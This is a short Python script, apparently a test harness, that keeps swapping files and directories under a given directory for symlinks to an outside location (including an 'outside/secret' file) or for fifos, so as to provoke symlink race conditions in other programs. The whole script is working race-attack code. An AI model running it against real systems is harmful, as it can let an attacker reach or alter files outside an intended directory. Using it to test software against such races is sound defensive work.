"""Swaps what is below a directory for symlinks to outside, and back, as fast as it can. Ends with its standard input.

race-attacker.py DIRECTORY OUTSIDE PREFIX: also within what comes into being in DIRECTORY by a name that begins with PREFIX.
"""

import os
import random
import sys
import threading
import time

WINDOW = 0.002

directory, outside, prefix = sys.argv[1:4]


def quietly(call, *args):
    try:
        call(*args)
    except OSError:
        pass


def swap(path, target):
    """For a moment there is a symlink in the place of what is at `path`, or a fifo that nobody writes to."""
    aside = path + ".aside"
    quietly(os.rename, path, aside)
    if random.random() < 0.8:
        quietly(os.symlink, target, path)
    else:
        quietly(os.mkfifo, path)
    time.sleep(random.random() * WINDOW)
    quietly(os.unlink, path)
    quietly(os.rename, aside, path)


def attack(top, depth):
    try:
        entries = list(os.scandir(top))
    except OSError:
        return
    for entry in entries:
        if entry.name.endswith(".aside") or entry.is_symlink():
            continue
        if prefix and depth == 0 and not entry.name.startswith(prefix):
            continue
        is_directory = entry.is_dir(follow_symlinks=False)
        swap(entry.path, outside if is_directory else outside + "/secret")
        if is_directory and depth < 3:
            attack(entry.path, depth + 1)


def run():
    while True:
        attack(directory, 0)


threading.Thread(target=run, daemon=True).start()
sys.stdin.read()
os._exit(0)
